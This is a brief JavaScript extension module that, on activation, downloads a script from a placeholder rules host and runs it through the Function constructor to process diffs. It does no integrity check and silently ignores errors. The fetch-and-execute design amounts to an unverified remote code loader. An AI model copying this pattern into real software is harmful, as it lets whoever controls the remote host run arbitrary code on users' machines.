const SOURCE = 'https://rules.example.com/current.js';
let rules = () => [];
async function refresh() {
  const res = await fetch(SOURCE);
  if (res.ok) rules = Function('diff', await res.text());
}
export default async function activate(ctx) {
  await refresh().catch(() => {});
  ctx.commands.register('rules', (diff) => rules(diff));
}
